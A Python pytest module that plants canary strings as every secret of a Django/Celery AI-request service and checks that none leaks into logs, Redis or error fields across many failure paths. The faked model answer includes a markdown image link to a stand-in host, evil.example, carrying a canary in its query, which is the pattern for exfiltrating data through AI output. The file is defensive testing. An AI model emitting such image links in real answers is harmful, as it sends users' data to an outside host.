"""Secrets and texts go through all that can go wrong; no log, no key of Redis and no error field has one of them."""

from __future__ import annotations

import contextlib
import json
import secrets
import signal
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx2
import pytest
import redis
from celery import Celery
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect

from config.local.child import Child
from tests.process.client import events, server_sent
from tests.process.conftest import QUICK
from tests.process.stack import Person, Stack, directive, wait_for
from tests.services import SERVICES

# Where the product's own rows are refused, with all that they hold in the refusal.
REFUSE = """
CREATE OR REPLACE FUNCTION canary_refuse() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF position(TG_ARGV[1] IN to_jsonb(NEW) ->> TG_ARGV[0]) > 0 THEN
        RAISE data_exception USING MESSAGE = 'refused by a test', DETAIL = to_jsonb(NEW)::text;
    END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER canary BEFORE INSERT ON requests_app_airequest
    FOR EACH ROW EXECUTE FUNCTION canary_refuse('payload', 'REFUSE-ACCEPTING');
CREATE TRIGGER canary_result BEFORE UPDATE ON requests_app_airequest
    FOR EACH ROW EXECUTE FUNCTION canary_refuse('result', 'REFUSE-RESULT');
CREATE TRIGGER canary BEFORE INSERT ON requests_app_streamchunk
    FOR EACH ROW EXECUTE FUNCTION canary_refuse('text', 'REFUSE-CHUNK');
"""
FORGIVE = """
DROP TRIGGER IF EXISTS canary ON requests_app_airequest;
DROP TRIGGER IF EXISTS canary_result ON requests_app_airequest;
DROP TRIGGER IF EXISTS canary ON requests_app_streamchunk;
"""
MAKE_ADMIN = """
import django; django.setup()
from accounts.models import User
User.objects.create_superuser({name!r}, email={email!r}, password={password!r})
"""


@dataclass
class Canaries:
    """A word that nobody else says, for each place where one is planted."""

    planted: dict[str, str] = field(default_factory=dict)

    def __call__(self, place: str) -> str:
        return self.planted.setdefault(place, f"canary{secrets.token_hex(12)}")

    def found_in(self, text: str) -> list[str]:
        return [place for place, word in self.planted.items() if word in text]


class Watched(Stack):
    """A stack whose every secret is a canary."""

    canary: Canaries
    form: str

    @property
    def environment(self) -> dict[str, str]:
        return {
            **super().environment,
            **QUICK,
            "LINTEL_CATALOGUE": "",  # the product's own, whose providers take keys
            "LINTEL_EMBEDDED_MODEL_URL": "",
            "LINTEL_LOG_FORMAT": self.form,
            "SECRET_KEY": self.canary("SECRET_KEY") * 3,
            "OPENAI_API_KEY": self.canary("OPENAI_API_KEY"),
            "OPENAI_BASE_URL": f"{self.fake_url}/v1",
            "ANTHROPIC_API_KEY_FILE": str(self.key_file()),
            "ANTHROPIC_BASE_URL": self.fake_url,
            "LINTEL_METRICS_TOKEN": self.canary("LINTEL_METRICS_TOKEN"),
        }

    def key_file(self) -> Path:
        file = self.home.root / "anthropic-key"
        if not file.exists():
            file.write_text(self.canary("ANTHROPIC_API_KEY_FILE"))
        return file

    def all_logs(self) -> Iterator[tuple[str, str]]:
        """Of every process of ours, and of the servers that they use."""
        for log in [*self.home.logs.glob("*.log"), *SERVICES.home.logs.glob("*.log")]:
            yield log.name, log.read_text(errors="replace")

    def worker(self) -> Child:
        return self.start_worker()


@dataclass(frozen=True)
class Scene:
    """Whom and what the attempts below use."""

    stack: Watched
    canary: Canaries
    person: Person
    browser: httpx2.Client
    admin: httpx2.Client

    def submit(self, text: str, *, headers: dict[str, str] | None = None, **more: Any) -> str:
        body = {"prompt_key": "document_summary", "payload": {"document": text}, **more}
        with self.stack.client(self.person) as http:
            answer = http.post("/api/v1/requests", json=body, headers=headers or {})
        assert answer.status_code == 202, answer.text
        return str(answer.json()["id"])

    def ended(self, request_id: str) -> str:
        query = "SELECT status FROM requests_app_airequest WHERE id = %s AND completed IS NOT NULL"
        rows = wait_for(lambda: self.stack.sql(query, request_id), what="its end")
        return str(rows[0][0])


@pytest.fixture(scope="module", params=["json", "plain"])
def scene(request: pytest.FixtureRequest, stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    others = [child for child in stack.children if child.command.name.startswith("worker")]
    watched = Watched(SERVICES, tmp_path_factory.mktemp(request.param))
    watched.canary, watched.form = Canaries(), request.param
    # Each of these, whatever becomes of the others: what is left running would take every later test's requests.
    with contextlib.ExitStack() as afterwards:
        # A worker that was frozen inside a transaction has locks that the triggers wait for.
        afterwards.callback(watched.sql, FORGIVE)
        for child in others:
            child.tell_all(signal.SIGSTOP)
            afterwards.callback(child.tell_all, signal.SIGCONT)
        afterwards.callback(stack.run, "manage.py", "init_ai_config")  # the catalogue that the others are meant for
        afterwards.callback(watched.stop)
        watched.begin()
        watched.start_jobs_and_beat()
        watched.worker()
        watched.sql(FORGIVE + REFUSE)
        yield _scene(watched, stack.person())


def _scene(stack: Watched, person: Person) -> Scene:
    canary = stack.canary
    canary.planted["API token"] = person.token
    for role, url in (("application", SERVICES.database_url), ("owner", SERVICES.migrate_database_url)):
        canary.planted[f"password of the {role}"] = urlsplit(url).password or ""
    canary.planted["password of Redis"] = urlsplit(SERVICES.redis_url).password or ""
    assert all(canary.planted.values())
    name = f"admin-{secrets.token_hex(4)}"
    stack.run("-c", MAKE_ADMIN.format(name=name, email=canary("e-mail"), password=canary("password")))
    browser, admin = (
        logged_in(stack, "/login", person.name, person.name),
        logged_in(stack, "/admin/login/", name, canary("password")),
    )
    canary.planted["session cookie"] = browser.cookies["sessionid"]
    canary.planted["administrator's cookie"] = admin.cookies["sessionid"]
    return Scene(stack=stack, canary=canary, person=person, browser=browser, admin=admin)


def logged_in(stack: Stack, path: str, name: str, password: str) -> httpx2.Client:
    http = httpx2.Client(base_url=stack.base_url, timeout=20)
    http.get(path)
    form = {"username": name, "password": password, "csrfmiddlewaretoken": http.cookies["csrftoken"]}
    assert http.post(path, data=form).status_code == 302
    return http


def answered(scene: Scene) -> None:
    canary = scene.canary
    request_id = scene.submit(
        directive(canary("payload"), text=f"# {canary('answer')} ![x](https://evil.example/?q={canary('link')})"),
        headers={
            "Idempotency-Key": canary("Idempotency-Key"),
            "User-Agent": canary("User-Agent"),
            "Referer": f"https://{canary('Referer')}.example/",
            "X-Anything": canary("any header"),
            "X-Request-ID": f"{canary('unusable X-Request-ID')} with spaces",
        },
        object_id=canary("object_id"),
        metadata={canary("name in metadata"): canary("value in metadata")},
    )
    assert scene.ended(request_id) == "done"
    assert canary("answer") in "".join(event.get("text", "") for event in events(scene.stack, scene.person, request_id))
    assert list(server_sent(scene.stack, scene.person, request_id))
    page = scene.browser.get(f"/requests/{request_id}?next={canary('query')}")
    assert page.status_code == 200


def refused_by_the_api(scene: Scene) -> None:
    canary, url = scene.canary, "/api/v1/requests"
    good = {"prompt_key": "document_summary", "payload": {"document": "x"}}
    bodies = [
        {**good, "payload": {"document": [canary("ill-typed variable")]}},
        {**good, canary("unknown field"): 1},
        {**good, "prompt_key": canary("unknown prompt")},
        {**good, "payload": {"document": f"{canary('NUL')}\0"}},
        {**good, "model": canary("unknown model")},
    ]
    with scene.stack.client(scene.person) as http:
        for body in bodies:
            assert http.post(url, json=body).status_code == 400, body
        assert (
            http.post(url, content=f"{{{canary('no JSON')}", headers={"Content-Type": "application/json"}).status_code
            == 400
        )
        assert http.post(url, content=canary("too large") * 100_000).status_code == 413
        assert http.post(url, files={"f": (canary("file name"), canary("file"))}).status_code == 415
        assert http.get(f"/api/v1/prompts/{canary('path')}").status_code == 404
        assert http.get(f"{url}?cursor={canary('cursor')}").status_code == 400
        key = {"Idempotency-Key": canary("used Idempotency-Key")}
        assert http.post(url, json=good, headers=key).status_code == 202
        again = {**good, "payload": {"document": canary("second body of a key")}}
        assert http.post(url, json=again, headers=key).status_code == 422


def refused_at_the_door(scene: Scene) -> None:
    canary, base = scene.canary, scene.stack.base_url
    bearer = {"Authorization": f"Bearer {canary('wrong token')}"}
    assert httpx2.get(f"{base}/api/v1/requests", headers=bearer).status_code == 401
    assert httpx2.get(f"{base}/metrics", headers=bearer).status_code == 401
    cookie = {"Cookie": f"sessionid={canary('wrong cookie')}"}
    assert httpx2.get(f"{base}/", headers=cookie).status_code == 302
    assert httpx2.get(f"{base}/", headers={"Host": f"{canary('Host')}.example"}).status_code == 400
    assert httpx2.get(f"{base}/sign-in/{canary('sign-in link')}").status_code == 302
    assert httpx2.get(f"{base}/{canary('page that is not there')}?q={canary('its query')}").status_code == 404
    foreign = {"Origin": f"https://{canary('Origin')}.example", "Referer": f"https://{canary('Origin')}.example/"}
    assert (
        scene.browser.post("/", data={"v-document": canary("form without a token")}, headers=foreign).status_code == 403
    )
    login = {"username": canary("wrong name"), "password": canary("wrong password")}
    form = {**login, "csrfmiddlewaretoken": scene.browser.cookies["csrftoken"]}
    assert scene.browser.post("/admin/login/", data=form).status_code < 500
    assert httpx2.request(canary("method").upper(), f"{base}/").status_code in {302, 400, 405}


def refused_by_the_admin(scene: Scene) -> None:
    token = scene.admin.cookies["csrftoken"]
    form = {"username": scene.canary("user of the admin"), "password1": scene.canary("password of the admin")}
    answer = scene.admin.post("/admin/accounts/user/add/", data={**form, "csrfmiddlewaretoken": token})
    assert answer.status_code < 500
    assert scene.admin.get(f"/admin/accounts/user/?q={scene.canary('search')}").status_code < 500


def refused_on_streams(scene: Scene) -> None:
    canary, socket = scene.canary, scene.stack.base_url.replace("http", "ws", 1)
    request_id = scene.submit(directive(ending="hang"))
    url = f"{socket}/ws/requests/{request_id}"
    with connect(url, additional_headers=scene.person.headers, proxy=None) as reader:
        reader.send(canary("message of a reader"))
        reader.send(canary("message that is too long") * 1000)
        with contextlib.suppress(ConnectionClosed, TimeoutError):
            while True:
                reader.recv(timeout=2)
    with (
        pytest.raises(ConnectionClosed),
        connect(f"{url}?after={canary('position')}", additional_headers=scene.person.headers, proxy=None) as reader,
    ):
        reader.recv(timeout=5)
    with pytest.raises(InvalidStatus), connect(f"{socket}/ws/{canary('socket')}", proxy=None):
        pass
    with scene.stack.client(scene.person) as http:
        events = f"/api/v1/requests/{request_id}/events?after={canary('position of events')}"
        assert http.get(events, headers={"Last-Event-ID": canary("Last-Event-ID")}).status_code == 400
        assert http.post(f"/api/v1/requests/{request_id}/cancel").status_code == 200
    assert scene.ended(request_id) == "cancelled"


def failed_at_the_provider(scene: Scene) -> None:
    canary = scene.canary
    echo = json.dumps({"error": {"message": f"bad prompt: {canary('echoed prompt')}", "type": "invalid", "code": "x"}})
    scripts: list[dict[str, Any]] = [
        {"status": 400, "body": echo, "content_type": "application/json"},
        {"status": 401, "body": f"Incorrect key: {canary('OPENAI_API_KEY')}"},
        {"body": f"<html>{canary('page instead of an answer')}", "content_type": "text/html"},
        {"body": f'{{"error": {canary("garbled error")}', "content_type": "application/json"},
        {"body": f"data: {{{canary('garbled event')}\n\n", "content_type": "text/event-stream"},
        {"text": canary("text before garbage"), "ending": "garbage"},
        {"text": canary("text before an error"), "ending": "error"},
        {"text": canary("text before a cut"), "ending": "reset"},
        {"text": canary("refusal"), "stop": "refusal"},
        {"text": canary("answer that is too long"), "stop": "max_tokens"},
    ]
    ids = [scene.submit(directive(canary(f"prompt {number}"), **script)) for number, script in enumerate(scripts)]
    assert {scene.ended(each) for each in ids} <= {"failed", "done", "expired"}
    body = {
        "prompt_key": "ticket_classify",
        "payload": {"ticket": directive(canary("ticket"), text=canary("no JSON at all"))},
    }
    with scene.stack.client(scene.person) as http:
        answer = http.post("/api/v1/requests", json=body)
    assert answer.status_code == 202, answer.text
    assert scene.ended(answer.json()["id"]) == "done"  # asked again for the form, and then without a script


def broken_in_our_own_code(scene: Scene) -> None:
    canary = scene.canary
    body = {"prompt_key": "document_summary", "payload": {"document": f"REFUSE-ACCEPTING {canary('payload of a 500')}"}}
    with scene.stack.client(scene.person) as http:
        assert http.post("/api/v1/requests", json=body).status_code == 500
    form = {"prompt": "document_summary", "v-document": f"REFUSE-ACCEPTING {canary('form of a 500')}"}
    token = scene.browser.cookies["csrftoken"]
    assert scene.browser.post("/", data={**form, "csrfmiddlewaretoken": token}).status_code == 500
    result, chunk = f"REFUSE-RESULT {canary('unstorable result')}", f"REFUSE-CHUNK {canary('unstorable chunk')}"
    assert scene.ended(scene.submit(directive("x", text=result, chunk_chars=100))) == "failed"
    slow = directive("x", text=chunk * 5, chunk_chars=len(chunk), chunk_delay_s=0.3)
    assert scene.ended(scene.submit(slow)) == "failed"


def broken_workers(scene: Scene) -> None:
    canary, stack = scene.canary, scene.stack
    text = f"{canary('text of a killed worker')} " * 20
    request_id = scene.submit(
        directive(canary("prompt of a killed worker"), text=text, chunk_chars=4, chunk_delay_s=0.05)
    )
    query = "SELECT count(*) FROM requests_app_streamchunk WHERE request_id = %s"
    wait_for(lambda: stack.sql(query, request_id)[0][0] > 3, what="some text")
    (worker,) = [child for child in stack.children if child.command.name.startswith("worker")]
    worker.kill()
    stack.worker()
    assert scene.ended(request_id) == "done"
    with Celery(broker=SERVICES.redis_url) as app:
        app.conf.task_ignore_result = True
        for name in ("requests_app.run_ai_request", "requests_app.no_such_task"):
            app.send_task(name, kwargs={"request_id": canary("argument of a task"), "v": 1}, queue="requests")
            app.send_task(name, args=[canary("third argument of a task")] * 3, queue="jobs")
    # Taken and done with; what workers of other tests were killed over may lie there for longer.
    wait_for(lambda: not canary.found_in(in_redis(SERVICES.redis_url)), what="queues without a canary")


PATHS: tuple[Callable[[Scene], None], ...] = (
    answered,
    refused_by_the_api,
    refused_at_the_door,
    refused_by_the_admin,
    refused_on_streams,
    failed_at_the_provider,
    broken_in_our_own_code,
    broken_workers,
)


def in_redis(url: str) -> str:
    """All keys and their values."""
    client: Any = redis.from_url(url, decode_responses=True, encoding_errors="replace")
    readers = {
        "string": client.get,
        "list": lambda key: client.lrange(key, 0, -1),
        "set": client.smembers,
        "hash": client.hgetall,
        "zset": lambda key: client.zrange(key, 0, -1),
        "stream": client.xrange,
    }
    return repr([(key, readers[kind](key)) for key in client.scan_iter() if (kind := client.type(key)) in readers])


ERROR_FIELDS = """
SELECT error_code, error_message, model, provider FROM requests_app_airequest
UNION SELECT outcome, reason, model, provider FROM requests_app_aiattempt
"""


@pytest.mark.timeout(600)
def test_no_canary_is_found(scene: Scene) -> None:
    for path in PATHS:
        path(scene)
    assert len(scene.canary.planted) >= 30
    logs = dict(scene.stack.all_logs())
    assert len(logs) >= 5
    found = {name: scene.canary.found_in(text) for name, text in logs.items()}
    found["Redis"] = scene.canary.found_in(in_redis(SERVICES.redis_url))
    found["error fields"] = scene.canary.found_in(repr(scene.stack.sql(ERROR_FIELDS)))
    assert {name: places for name, places in found.items() if places} == {}
    said = "".join(logs.values())
    assert "500" in said
    assert "Traceback" in said


@pytest.mark.timeout(600)
@pytest.mark.parametrize("scene", ["json"], indirect=True, scope="module")
def test_one_id_leads_from_the_call_to_the_worker(scene: Scene) -> None:
    call_id = f"call.{secrets.token_hex(8)}"
    request_id = scene.submit(directive(), headers={"X-Request-ID": call_id})
    assert scene.ended(request_id) == "done"

    def lines() -> list[dict[str, Any]]:
        logs = [text for name, text in scene.stack.all_logs() if name.startswith(("web", "worker"))]
        return [json.loads(line) for text in logs for line in text.splitlines() if call_id in line]

    def worker_lines() -> list[dict[str, Any]]:
        return [line for line in lines() if line.get("request") == request_id and line.get("attempt") == 1]

    assert wait_for(worker_lines, what="the worker's lines")[0]["worker"]
    (access,) = [line for line in lines() if line["logger"] == "config.access"]
    assert (access["method"], access["route"], access["status"]) == ("POST", "api/v1/requests", 202)
    assert access["user"] == scene.person.id


def test_search_for_canaries_can_find_one(tmp_path: Path) -> None:
    canary = Canaries()
    assert canary.found_in(f"a line with {quote(canary('payload'))} in it") == ["payload"]
